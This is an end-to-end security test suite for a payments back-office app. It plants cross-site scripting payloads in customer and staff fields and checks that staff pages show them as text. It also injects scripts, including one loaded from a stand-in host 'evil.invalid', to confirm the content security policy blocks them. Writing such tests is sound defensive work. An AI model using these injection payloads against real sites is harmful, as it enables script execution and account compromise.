import { launch, newAccount, PASSWORD } from '@fairtick/kit/browser/browser.ts';
import { type Desk, leave, openDesk, sitDown } from '@fairtick/kit/browser/desk.ts';
import { announceDeposit, customerGet, customerPost, payee, StaffDesk } from '@fairtick/kit/browser/payee.ts';
import { type ServerProcess, startServerProcess } from '@fairtick/kit/browser/server.ts';
import { paper } from '@fairtick/kit/people/paper.ts';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

/**
 * Text by customers or colleagues stays text wherever staff read it: every field that a person may fill gets a script, and every
 * page of the office that shows it is opened.
 */
let browser: Browser;
let server: ServerProcess;
beforeAll(async () => {
  // An installation of its own: its queues hold only what this test plants.
  [browser, server] = await Promise.all([launch(), startServerProcess({ MODE: 'demo', HOLD_SECONDS: '1' })]);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

const RUN = 'globalThis.isHacked = true';
const MARKUP = `<img src=x onerror="${RUN}"><script>${RUN}</script>`;
/** Also markup that Markdown, a spreadsheet or a template would interpret. */
const PLANTED = `${MARKUP} [x](javascript:${RUN}) ![y](x"onerror="${RUN}) =HYPERLINK("javascript:${RUN}") {{7*7}}`;
/** As long as a nickname may be. */
const NICKNAME = '<svg onload=alert()>';
const FORMULA = `=HYPERLINK("javascript:${RUN}")`;

interface Planted {
  readonly account: string;
  readonly customerId: string;
  readonly token: string;
  readonly depositId: string;
  readonly refusedId: string;
  readonly withdrawalId: string;
  readonly newsId: string;
}

/** Fills every text field with planted markup, each as a person who may fill it. */
async function plant(): Promise<Planted> {
  const { origin, officeOrigin } = server;
  const staff = (account: string) => StaffDesk.open(account, officeOrigin);
  const { token } = await payee({ balance: '300', base: origin, office: officeOrigin });
  const send = <T>(path: string, fields: Record<string, string | Blob>) =>
    customerPost<T>(path, token, fields, origin);
  const { id: customerId, account } = await customerGet<{ id: string; account: string }>(
    'user/getUserInfo',
    token,
    origin,
  );
  await send('user/setUserName', { nickname: NICKNAME });
  await send('user/setBank', {
    holder: MARKUP,
    bank: FORMULA,
    branch: MARKUP,
    cardNumber: '5555555555554444',
  });
  await send('chat/send', { text: PLANTED });
  const picture = new File([new Uint8Array(paper(120, 200))], `${MARKUP}.png`, { type: 'image/png' });
  await send('chat/send', { image: picture });
  await send('user/recoverRequest', { account, contact: MARKUP.slice(0, 200), text: PLANTED });
  await plantName(MARKUP.slice(0, 99));

  const cashier = await staff('cashier_1');
  const { id: depositId } = await announceDeposit(token, '120', origin);
  await cashier.post('deposit/find', { id: depositId, amount: '119', evidence: PLANTED.slice(0, 200) });
  const { id: refusedId } = await announceDeposit(token, '90', origin);
  const refusal = { id: refusedId, status: 'failure', reason: 'other', text: PLANTED };
  await cashier.post('deposit/refuse', refusal);
  const { destinations } = await customerGet<{ destinations: { id: string; asset: string }[] }>(
    'withdraw/options',
    token,
    origin,
  );
  const destinationId = destinations.find(({ asset }) => asset === 'USDT')?.id ?? '';
  const wish = { destinationId, asset: 'USDT', amount: '50', payWord: '135790' };
  const { id: withdrawalId } = await send<{ id: string }>('withdraw/submit', wish);
  await cashier.post('withdrawal/propose', { id: withdrawalId, instructions: PLANTED });
  const up = { customerId, asset: 'USDT', direction: 'up', amount: '1', reason: PLANTED };
  await cashier.post('correction/propose', up);
  const day = new Date().toISOString().slice(0, 10);
  const csv = `date,amount,reference,counterparty\n${day},75.00,${FORMULA.replaceAll('"', "'")},"${MARKUP.replaceAll('"', '""')}"\n`;
  await cashier.post('statement/import', { asset: 'USD', file: Buffer.from(csv).toString('base64') });
  const terms = { asset: 'USDT', address: MARKUP, min: '20', max: '100', isEnabled: 'true' };
  await cashier.post('channel/propose', { ...terms, network: NICKNAME });
  const from = new Date(Date.now() + 10 * 86_400_000).toISOString().slice(0, 10);
  const catalogue = await staff('catalogue_1');
  await catalogue.post('earning/propose', { asset: 'USDT', annualRate: '0.0123', from, note: PLANTED });
  await catalogue.post('catalogue/propose', {
    kind: 'feed_rules',
    symbols: 'EUR/USD',
    rules: '{"quietMs":4321}',
    effectiveAt: String(Date.now() + 3 * 3_600_000),
    note: PLANTED,
  });
  await catalogue.post('halt/start', { reason: PLANTED });
  const administrator = await staff('admin_1');
  await administrator.post('staff/create', { account: 'planted_1', name: NICKNAME, person: 'planted' });
  const content = await staff('content_1');
  const text = { titleEn: MARKUP, bodyEn: PLANTED, source: MARKUP, note: PLANTED };
  const { id: newsId } = await content.post<{ id: string }>('news/save', { category: 'notice', ...text });
  return { account, customerId, token, depositId, refusedId, withdrawalId, newsId };
}

/** Adds a customer who waits for verification under this name. */
async function plantName(realName: string): Promise<void> {
  const account = newAccount();
  const form = { account, password: PASSWORD, confirmPassword: PASSWORD };
  const { token } = await customerPost<{ token: string }>('user/register', '', form, server.origin);
  const picture = () => new File([new Uint8Array(paper(200, 120))], `${MARKUP}.png`, { type: 'image/png' });
  const fields = {
    realName,
    idType: MARKUP.slice(0, 40),
    idNumber: NICKNAME,
    idAddress: PLANTED,
    currentAddress: PLANTED,
  };
  await customerPost(
    'user/submitReal',
    token,
    { ...fields, idFront: picture(), idBack: picture() },
    server.origin,
  );
}

/** The planted text is shown as text: none of it ran, nothing had to be blocked, and no link of it works. */
async function isText(desk: Desk, where: string, text: string | RegExp): Promise<void> {
  const { page } = desk;
  await page.getByText(text).first().waitFor();
  const found = await page.evaluate(() => ({
    isHacked: 'isHacked' in globalThis,
    stopped: (globalThis as unknown as { stopped: string[] }).stopped,
    links: [...document.querySelectorAll('a')].filter(({ href }) => /^javascript:/i.test(href)).length,
    made: document.querySelectorAll('[onerror], [onload], img[src="x"]').length,
  }));
  expect([where, found]).toEqual([where, { isHacked: false, stopped: [], links: 0, made: 0 }]);
}

describe('planted scripts', () => {
  test('are shown as text on every page of the office', async () => {
    const planted = await plant();
    const auditor = await sitDown(browser, server.officeOrigin, 'auditor_1');
    const { page } = auditor;
    const open = (path: string) => page.goto(`${server.officeOrigin}/${path}`);
    /** Pages that an auditor reads, and the planted text that each shows. */
    const pages: readonly (readonly [string, string])[] = [
      [`deposits/${planted.depositId}`, '<img src=x onerror'],
      [`deposits/${planted.refusedId}`, '<img src=x onerror'],
      [`withdrawals/${planted.withdrawalId}`, '<img src=x onerror'],
      ['corrections', '<img src=x onerror'],
      ['statements', '<img src=x onerror'],
      ['channels', NICKNAME],
      ['earnings', '<img src=x onerror'],
      ['catalogue', '<img src=x onerror'],
      ['staff', NICKNAME],
      ['news', '<img src=x onerror'],
      ['audit', '<img src=x onerror'],
    ];
    for (const [path, shown] of pages) {
      await open(path);
      await isText(auditor, path, shown);
    }
    // The lists of open decisions show none of the planted text; their details do.
    for (const path of ['dashboard', 'deposits', 'withdrawals', 'identities', 'ledger']) {
      await open(path);
      await isText(auditor, path, /\S/);
    }
    await leave(auditor);
    await readPeople(planted);
  });

  /** Pages about people that support, verification and content read. */
  async function readPeople({ account, newsId }: Planted): Promise<void> {
    const support = await sitDown(browser, server.officeOrigin, 'support_1');
    const { page } = support;
    await page.goto(`${server.officeOrigin}/chats`);
    await page.getByRole('button', { name: account }).click();
    await isText(support, 'a conversation', PLANTED);
    await page.goto(`${server.officeOrigin}/recoveries`);
    await page.getByRole('cell', { name: account }).click();
    await isText(support, 'a call for help', PLANTED);
    await page.getByRole('link', { name: 'Customers' }).click();
    await page.getByLabel('Account', { exact: true }).fill(account);
    await page.getByRole('button', { name: 'Find' }).click();
    await isText(support, 'a customer', NICKNAME);
    await leave(support);

    const verification = await sitDown(browser, server.officeOrigin, 'verification_1');
    await verification.page.goto(`${server.officeOrigin}/identities`);
    await verification.page.locator('tbody tr').first().click();
    await verification.page.locator('#case-title').waitFor();
    await verification.page.keyboard.press('c');
    await isText(verification, 'a name', PLANTED);
    await leave(verification);

    const content = await sitDown(browser, server.officeOrigin, 'content_1');
    await content.page.goto(`${server.officeOrigin}/news/${newsId}`);
    await isText(content, 'an article', /HYPERLINK|javascript/);
    await leave(content);
  }
});

describe('the content security policy', () => {
  const INJECTED = `<script>${RUN}</script><script src="https://evil.invalid/x.js"></script>
    <img src=x onerror="${RUN}"><svg onload="${RUN}"></svg>`;

  /** Opens a page into which an attacker on the network has injected scripts. */
  async function openInjected(address: string, options: { hasPolicy: boolean }): Promise<Page> {
    const desk = await openDesk(browser, server.officeOrigin);
    const { page } = desk;
    await page.route('https://evil.invalid/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: RUN }),
    );
    await page.route(address, async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': policy, ...headers } = response.headers();
      expect(policy).toBeDefined();
      const body = (await response.text()).replace('</body>', `${INJECTED}</body>`);
      expect(body).toContain(INJECTED);
      await route.fulfill({
        response,
        body,
        headers: options.hasPolicy ? { ...headers, 'content-security-policy': policy as string } : headers,
      });
    });
    await page.goto(address);
    return page;
  }

  const isHacked = (page: Page) => page.evaluate(() => 'isHacked' in globalThis);

  test.each([
    ['the office', () => `${server.officeOrigin}/`],
    ['the customer’s app', () => `${server.origin}/login`],
  ])(
    'of %s blocks every script that was injected into the page; without the policy they run',
    async (_name, address) => {
      const page = await openInjected(address(), { hasPolicy: true });
      await expect
        .poll(() =>
          page.evaluate(() => [...new Set((globalThis as unknown as { stopped: string[] }).stopped)].sort()),
        )
        .toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem']));
      // The app itself is shown: the policy blocks only foreign scripts.
      await page.locator('form input').first().waitFor();
      expect(await isHacked(page)).toBe(false);
      await page.context().close();

      const open = await openInjected(address(), { hasPolicy: false });
      await expect.poll(() => isHacked(open)).toBe(true);
      await open.context().close();
    },
  );

  test('of the customer’s app lets no string become markup, a script or a style sheet', async () => {
    const { page } = await openDesk(browser, server.origin);
    await page.goto(`${server.origin}/login`);
    await page.locator('form input').first().waitFor();
    const done = await page.evaluate(() => {
      const done: string[] = [];
      const tried = (name: string, what: () => void) => {
        try {
          what();
          done.push(name);
        } catch {
          // The browser refuses it.
        }
      };
      tried('markup', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
      tried('script', () => {
        document.createElement('script').src = 'https://evil.invalid/x.js';
      });
      const style = Object.assign(document.createElement('style'), { textContent: 'body{opacity:.5}' });
      tried('style', () => document.head.append(style));
      return [...done, getComputedStyle(document.body).opacity];
    });
    expect(done).toEqual(['style', '1']);
    await page.context().close();
  });
});
